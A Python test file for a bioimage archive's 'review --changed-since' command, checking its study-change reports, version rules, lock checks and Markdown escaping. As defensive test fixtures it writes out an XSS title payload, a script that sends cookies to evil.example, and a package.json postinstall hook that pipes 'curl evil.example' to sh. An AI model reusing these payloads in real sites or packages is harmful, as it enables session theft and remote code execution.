"""`bioarchive review --changed-since` on real Git repositories and real OME-Zarr images."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from builder.cli import main
from builder.curation.review import describe_change, field_changes, md, md_code, md_text
from tests.support.gitrepo import ArchiveRepo

V2_ENTRY = """changelog:
  - version: 2
    date: 2025-05-30
    description: Corrected the ORCID iD of the contact author, which was mistyped.
"""


def review(repo: ArchiveRepo, *args: str, summary: Path | None = None):
    env = {"GITHUB_STEP_SUMMARY": str(summary)} if summary else {"GITHUB_STEP_SUMMARY": ""}
    return CliRunner().invoke(main, ["review", "--changed-since", "main", *args], env=env)


def publish_with_data(repo: ArchiveRepo) -> None:
    """Give main's OIA-000001 a real image and a real images.lock, and branch again."""
    repo.checkout("main")
    repo.add_image("images/cells.ome.zarr")
    assert CliRunner().invoke(main, ["lock", "studies/OIA-000001"]).exit_code == 0
    repo.commit("Pin OIA-000001")
    repo.git("branch", "-f", "submission", "main")
    repo.checkout("submission")


def test_new_study_report_has_facts_terms_completeness_and_thumbnails(
    archive_repo: ArchiveRepo, tmp_path: Path
) -> None:
    archive_repo.add_image("images/new.ome.zarr")
    archive_repo.add_study("OIA-000003", lock=False, image_name="new", image_url="images/new.ome.zarr")
    assert CliRunner().invoke(main, ["lock", "studies/OIA-000003"]).exit_code == 0
    archive_repo.commit("Add OIA-000003")
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")

    result = review(archive_repo, summary=summary)
    assert result.exit_code == 0, result.output
    assert "ok  OIA-000003: new study; 0 error(s)" in result.output
    out = archive_repo.root / "review"
    text = (out / "OIA-000003.md").read_text()
    assert "✅ **Ready for a curator**" in text
    assert "- **Change:** new study" in text and "- **State:** published" in text
    # Image facts from the real image: kind, version, shape, pixel sizes, channels, lock status.
    assert (
        "| new | image | 0.5 | c2 × z1 × y64 × x64 | z 1 micrometer, y 0.25 micrometer, x 0.25 micrometer "
        "| ch0, ch1 | matches |"
    ) in text
    # Ontology ids with the labels the term lists give.
    assert (
        "| `datasets[0].biosample.organisms[0].id` | `NCBITaxon:9606` | Homo sapiens | Homo sapiens | ✅ matches |"
        in text
    )
    assert "### Completeness: 23/100" in text
    assert "): the study has no `keywords:`\n  - Fix: Add a few `keywords:`" in text
    assert "CMP003" not in text.split("### Completeness")[0]  # hints are not listed twice
    # Thumbnails copied beside the report and linked from it.
    thumbs = sorted((out / "thumbnails" / "OIA-000003").iterdir())
    assert [p.name for p in thumbs] == ["cells--new--card.webp", "cells--new--preview.webp"]
    assert "![thumbnail of new](thumbnails/OIA-000003/cells--new--card.webp)" in text
    assert "- new: `images/new.ome.zarr` — uint16; 2 pyramid level\\(s\\)" in text
    # The same in JSON, and the overview.
    doc = json.loads((out / "OIA-000003.json").read_text())
    assert doc["ok"] and doc["images"][0]["facts"]["shape"] == [2, 1, 64, 64]
    assert doc["images"][0]["fingerprint_status"] == "matches"
    overview = json.loads((out / "review.json").read_text())
    assert overview["format"] == "bioarchive-review" and [s["accession"] for s in overview["studies"]] == ["OIA-000003"]
    # The job summary got the report appended (without thumbnail links).
    job_summary = summary.read_text()
    assert job_summary.startswith("earlier step\n# Review report")
    assert "OIA-000003" in job_summary and "![thumbnail" not in job_summary


def test_edit_without_new_version_fails_with_a_readable_diff(archive_repo: ArchiveRepo) -> None:
    publish_with_data(archive_repo)
    archive_repo.edit_study("OIA-000001", "orcid: 0000-0002-1825-0097", "orcid: 0000-0001-5109-3700")
    archive_repo.commit("Fix ORCID")
    result = review(archive_repo)
    assert result.exit_code == 1
    assert "ERR OIA-000001: edit; 2 error(s)" in result.output
    text = (archive_repo.root / "review" / "OIA-000001.md").read_text()
    assert "❌ **Changes needed**" in text
    errors = text.split("**Errors (must be fixed): 2**")[1].split("**")[0:6]
    assert any("SUB002" in part for part in errors)
    assert "- `authors[0].orcid: 0000-0002-1825-0097 → 0000-0001-5109-3700`" in text
    assert "-    orcid: 0000-0002-1825-0097" in text and "+    orcid: 0000-0001-5109-3700" in text
    assert "Fix: Set `version` to the published version plus one" in text


def test_edit_as_new_version_passes(archive_repo: ArchiveRepo) -> None:
    publish_with_data(archive_repo)
    archive_repo.edit_study("OIA-000001", "orcid: 0000-0002-1825-0097", "orcid: 0000-0001-5109-3700")
    archive_repo.edit_study("OIA-000001", "\nversion: 1\n", "\nversion: 2\n")
    archive_repo.write("studies/OIA-000001/study.yaml", archive_repo.read("studies/OIA-000001/study.yaml") + V2_ENTRY)
    result = review(archive_repo)
    assert result.exit_code == 0, result.output
    text = (archive_repo.root / "review" / "OIA-000001.md").read_text()
    assert "- **Change:** new version 2 \\(published: 1\\)" in text
    assert "- **Version:** 2 (base: 1)" in text
    assert "- `version: 1 → 2`" in text and "- `changelog: added " in text


def test_changed_data_is_caught_against_the_lock(archive_repo: ArchiveRepo) -> None:
    publish_with_data(archive_repo)
    shutil.rmtree(archive_repo.root / "example-data/images/cells.ome.zarr")
    archive_repo.add_image("images/cells.ome.zarr", channels=3)
    archive_repo.edit_study("OIA-000001", "\nversion: 1\n", "\nversion: 2\n")
    archive_repo.write("studies/OIA-000001/study.yaml", archive_repo.read("studies/OIA-000001/study.yaml") + V2_ENTRY)
    result = review(archive_repo)
    assert result.exit_code == 1
    doc = json.loads((archive_repo.root / "review" / "OIA-000001.json").read_text())
    # Metadata and content both changed (the content check reads every byte against images.lock).
    assert [d["check"] for d in doc["diagnostics"] if d["severity"] == "error"] == ["SUB021", "SUB026"]
    assert doc["images"][0]["fingerprint_status"] == "differs"

    # Re-pinned as the fix says: the report shows what the lock change means.
    assert CliRunner().invoke(main, ["lock", "studies/OIA-000001"]).exit_code == 0
    assert review(archive_repo).exit_code == 0
    doc = json.loads((archive_repo.root / "review" / "OIA-000001.json").read_text())
    (line,) = doc["lock_changes"]
    assert line.startswith("cells: fingerprint sha256:") and " → sha256:" in line
    assert "### images.lock changes" in (archive_repo.root / "review" / "OIA-000001.md").read_text()


def test_deleted_study_is_refused(archive_repo: ArchiveRepo) -> None:
    archive_repo.git("rm", "-q", "-r", "studies/OIA-000002")
    result = review(archive_repo, "--no-data")
    assert result.exit_code == 1
    text = (archive_repo.root / "review" / "OIA-000002.md").read_text()
    assert "- **Change:** deletion" in text and "SUB004" in text and "tombstone" in text


def test_embargoed_study_is_reviewed_and_flagged(archive_repo: ArchiveRepo) -> None:
    archive_repo.add_study("OIA-000003", release_date="2999-01-01")
    result = review(archive_repo, "--no-data")
    assert result.exit_code == 0, result.output
    text = (archive_repo.root / "review" / "OIA-000003.md").read_text()
    assert "- **State:** embargoed until 2999-01-01" in text
    assert "**Notes: " in text and "SUB006" in text


def test_colliding_study_says_how_to_renumber(archive_repo: ArchiveRepo) -> None:
    archive_repo.add_study("OIA-000003")
    archive_repo.commit("Mine")
    archive_repo.checkout("main")
    archive_repo.add_study("OIA-000003", title="Somebody else's zebrafish study")
    archive_repo.commit("Theirs")
    archive_repo.checkout("submission")
    result = review(archive_repo, "--no-data")
    assert result.exit_code == 1
    assert (
        "run `bioarchive renumber studies/OIA-000003`" in (archive_repo.root / "review" / "OIA-000003.md").read_text()
    )


def test_hostile_record_text_cannot_inject_markdown(archive_repo: ArchiveRepo) -> None:
    archive_repo.add_study(
        "OIA-000003", title="'Evil ![x](https://evil.example/t.png) <img src=x onerror=alert(1)> | cell'"
    )
    result = review(archive_repo, "--no-data")
    # Outside the fenced diff, where Markdown is not rendered.
    text = (archive_repo.root / "review" / "OIA-000003.md").read_text().split("<details>")[0]
    assert result.exit_code == 0, result.output
    assert not re.search(r"(?<!\\)!(?<!\\)\[|(?<!\\)<img", text)
    assert "\\!\\[x\\]\\(https://evil.example/t.png\\) \\<img src=x onerror=alert\\(1\\)\\> \\| cell" in text


def test_no_changes_and_unknown_base(archive_repo: ArchiveRepo) -> None:
    result = review(archive_repo, "--no-data")
    assert result.exit_code == 0 and "No study records changed since main" in result.output
    bad = CliRunner().invoke(main, ["review", "--changed-since", "origin/main"])
    assert bad.exit_code == 2 and "git fetch origin main" in bad.output


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ({"a": [{"b": 1}, {"b": 2}]}, {"a": [{"b": 1}, {"b": 3}]}, ["a[1].b: 2 → 3"]),
        ({"a": 1}, {"a": 1, "c": "x"}, ["c: added x"]),
        ({"a": 1, "k": [1, 2]}, {"k": [1]}, ["a: removed (was 1)", "k[1]: removed (was 2)"]),
        ({"a": "1"}, {"a": 1}, ["a: 1 → 1"]),
    ],
)
def test_field_changes(old, new, expected) -> None:
    assert [describe_change(c) for c in field_changes(old, new)] == expected


def test_markdown_escaping() -> None:
    assert md("a *b* [c](d)\n<e>") == "a \\*b\\* \\[c\\]\\(d\\) \\<e\\>"
    assert md_code("x ` y") == "``x ` y``"
    # Messages keep their code spans (inert) and escape the rest.
    assert md_text("set `version: 2` (or ![x](y))") == "set `version: 2` \\(or \\!\\[x\\]\\(y\\)\\)"
    assert md_text("one ` backtick <b>") == "one \\` backtick \\<b\\>"


def test_withdrawal_is_reviewed_without_reading_the_gone_images(archive_repo: ArchiveRepo) -> None:
    archive_repo.edit_study(
        "OIA-000002", "status: published", "status: withdrawn\nwithdrawal_reason: Consent was revoked."
    )
    archive_repo.edit_study("OIA-000002", "\nversion: 1\n", "\nversion: 2\n")
    archive_repo.write(
        "studies/OIA-000002/study.yaml",
        archive_repo.read("studies/OIA-000002/study.yaml")
        + "changelog:\n  - version: 2\n    date: 2025-05-30\n    description: Withdrawn because consent was revoked.\n",
    )
    result = review(archive_repo)  # with data: the image does not exist, and is not read
    assert result.exit_code == 0, result.output
    doc = json.loads((archive_repo.root / "review" / "OIA-000002.json").read_text())
    assert doc["change"] == "withdrawal" and doc["state"] == "withdrawn"
    assert [d["check"] for d in doc["diagnostics"]] == ["SUB007"]
    assert doc["images"][0]["fingerprint_status"] == "not checked"
    assert "- `status: published → withdrawn`" in (archive_repo.root / "review" / "OIA-000002.md").read_text()


def test_editing_an_embargoed_study_is_not_a_new_version(archive_repo: ArchiveRepo) -> None:
    archive_repo.checkout("main")
    archive_repo.add_study("OIA-000003", release_date="2999-01-01")
    archive_repo.commit("Embargoed study merged")
    archive_repo.git("branch", "-f", "submission", "main")
    archive_repo.checkout("submission")
    archive_repo.edit_study("OIA-000003", "title: HeLa", "title: Fixed HeLa")
    archive_repo.write("studies/OIA-000003/notes.txt", "stray")
    result = review(archive_repo, "--no-data")
    assert result.exit_code == 0, result.output
    doc = json.loads((archive_repo.root / "review" / "OIA-000003.json").read_text())
    assert doc["change"] == "edit of an embargoed study" and doc["state"] == "embargoed until 2999-01-01"
    assert [d["check"] for d in doc["diagnostics"]] == ["SUB012", "SUB006"]


def test_files_outside_the_study_folders_are_listed_for_the_curator(archive_repo: ArchiveRepo) -> None:
    """A submission that also changes docs/, another study's data, tests/, package.json and .gitignore."""
    archive_repo.add_study("OIA-000003", lock=False)
    archive_repo.write("docs/news.md", "# News\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n")
    archive_repo.write("docs/about.md", "# About\n\nPlain text.\n")
    # example-data/ is the storage root; tracking it here stands for data committed by the pull request.
    archive_repo.write(".gitignore", "/review/\n/.cache/\n")
    archive_repo.write("example-data/images/brain.ome.zarr/zarr.json", "{}\n")
    archive_repo.write("tests/test_nothing.py", "def test_nothing():\n    pass\n")
    archive_repo.write("package.json", '{"scripts": {"postinstall": "curl evil.example | sh"}}\n')
    archive_repo.write("templates/study.html", "{{ study.title }}\n")  # an archive file: SUB016 refuses it
    archive_repo.commit("Add OIA-000003 and more")

    result = review(archive_repo, "--no-data")
    assert result.exit_code == 1, result.output  # SUB016 is an error
    assert "ERR templates/study.html: decides how studies are checked or published" in result.output
    assert "warn docs/news.md: hand-written site page" in result.output

    out = archive_repo.root / "review"
    text = (out / "README.md").read_text()
    section = text.split("## Files changed outside the study folders")[1].split("\n## ")[0]
    for path in (
        ".gitignore",
        "docs/about.md",
        "docs/news.md",
        "example-data/images/brain.ome.zarr/zarr.json",
        "package.json",
        "templates/study.html",
        "tests/test_nothing.py",
    ):
        assert f"`{path}`" in section, path
    assert "holds a <script> element" in section.replace("\\", "")
    assert "possibly another study" in section
    # The out-of-scope findings validate prints are in the curators' report too.
    assert "**SUB016** `templates/study.html`" in section
    assert section.count("**SUB017**") == 6
    assert "❌ changes needed" in text

    doc = json.loads((out / "review.json").read_text())
    assert not doc["ok"]
    kinds = {f["path"]: f["kind"] for f in doc["outside_files"]}
    assert kinds == {
        ".gitignore": "other",
        "docs/about.md": "site page",
        "docs/news.md": "site page",
        "example-data/images/brain.ome.zarr/zarr.json": "storage data",
        "package.json": "other",
        "templates/study.html": "archive file",
        "tests/test_nothing.py": "tests",
    }
    assert sorted(d["check"] for d in doc["diagnostics"]) == ["SUB016", *["SUB017"] * 6]


def test_a_study_only_submission_lists_no_outside_files(archive_repo: ArchiveRepo) -> None:
    archive_repo.add_study("OIA-000003")
    archive_repo.commit("Add OIA-000003")
    result = review(archive_repo, "--no-data")
    assert result.exit_code == 0, result.output
    text = (archive_repo.root / "review" / "README.md").read_text()
    assert "outside the study folders" not in text
    assert json.loads((archive_repo.root / "review" / "review.json").read_text())["outside_files"] == []


def test_validate_review_and_fixity_find_the_same_data_problems(archive_repo: ArchiveRepo) -> None:
    """One service checks a study for all three: the same image and lock findings, in the same places."""
    publish_with_data(archive_repo)
    shutil.rmtree(archive_repo.root / "example-data/images/cells.ome.zarr")
    archive_repo.add_image("images/cells.ome.zarr", channels=3)  # the data changed after it was pinned
    archive_repo.edit_study("OIA-000001", "\nversion: 1\n", "\nversion: 2\n")
    archive_repo.write("studies/OIA-000001/study.yaml", archive_repo.read("studies/OIA-000001/study.yaml") + V2_ENTRY)

    def data_findings(diagnostics: list[dict]) -> set[tuple]:
        return {
            (d["check"], d["field"], d["line"])
            for d in diagnostics
            if d["check"].startswith(("IMG", "NET", "SAF", "SUB02"))
        }

    validated = CliRunner().invoke(main, ["validate", "studies/OIA-000001", "--format", "json"])
    assert validated.exit_code == 1, validated.output
    (record,) = json.loads(validated.stdout)["records"]
    from_validate = data_findings(record["diagnostics"])
    assert from_validate == {("SUB021", "cells", None)}  # the pinned image "cells" changed

    assert review(archive_repo).exit_code == 1
    from_review = data_findings(
        json.loads((archive_repo.root / "review" / "OIA-000001.json").read_text())["diagnostics"]
    )
    # Review also compares every byte with the lock's content checksum (SUB026, in images.lock).
    assert from_review == from_validate | {("SUB026", "cells", None)}

    fixity = CliRunner().invoke(main, ["fixity", "--sources", "--format", "json"])
    assert fixity.exit_code == 1
    assert "SUB021" in {d["check"] for d in json.loads(fixity.stdout)["problems"]}
